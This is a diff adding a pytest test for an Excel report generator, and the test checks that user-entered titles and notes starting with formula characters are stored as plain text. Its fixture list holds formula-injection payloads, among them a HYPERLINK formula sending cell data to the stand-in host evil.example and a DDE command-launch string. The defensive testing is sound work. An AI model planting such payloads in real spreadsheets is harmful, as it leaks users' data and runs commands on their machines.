@@ -337,3 +337,52 @@ def test_summary_text_says_what_it_left_off() -> None:
     short = summary_text(office, len(full) - 200, top=40)
     assert len(short) <= len(full) - 200
     assert "đơn vị khác" in short
+
+
+# -- formula injection ----------------------------------------------------------------
+
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+    "=cmd|' /C calc'!A0",
+    "+1+2",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+def _formulas(data: bytes) -> list[str]:
+    """Every cell the workbook would compute, read from its sheets' XML."""
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+        return [f for n in sheets for f in archive.read(n).decode().split("<f>")[1:]]
+
+
+def test_text_from_users_is_never_a_live_formula() -> None:
+    """A title, a unit's name, a progress note or the report's title that starts with
+    = + - @ (or a tab/CR) is written as text, shown as typed (test fails before)."""
+    from data.parts import LastUpdate
+
+    views = [
+        _view(i, "BTG", due=dt.date(2025, 2, 1) + dt.timedelta(days=i), title=text)
+        for i, text in enumerate(HOSTILE, start=1)
+    ]
+    report = build_report(Due(WorkCalendar(), Policy()), views, START, END, AS_OF, units=["BTG"])
+    facts = {
+        v.number: TaskFacts(v.title, "=1+1", v.kind.value, v.start, ("=A1",), False) for v in views
+    }
+    updates = {(v.number, "BTG"): LastUpdate(AS_OF, 10, v.title) for v in views}
+    office = OfficeReport(report, (UnitRow("BTG", "=2+2"),), facts, updates)
+    data = report_workbook(office, title="=1+1")
+    assert _formulas(data) == []
+    workbook = openpyxl.load_workbook(io.BytesIO(data))
+    detail = workbook[DETAIL_SHEET]
+    col = {h: i for i, h in enumerate(DETAIL_HEADERS, start=1)}
+    rows = range(HEADER_ROW + 1, detail.max_row + 1)
+    titles = [detail.cell(row=r, column=col["Nhiệm vụ"]) for r in rows]
+    assert sorted(c.value for c in titles) == sorted(HOSTILE)  # shown as typed
+    assert all(c.data_type == "s" and c.quotePrefix for c in titles)
+    notes = [detail.cell(row=r, column=col["Nội dung cập nhật"]).value for r in rows]
+    assert sorted(notes) == sorted(HOSTILE)
+    assert workbook[SUMMARY_SHEET].cell(row=HEADER_ROW + 1, column=1).value == "=2+2"
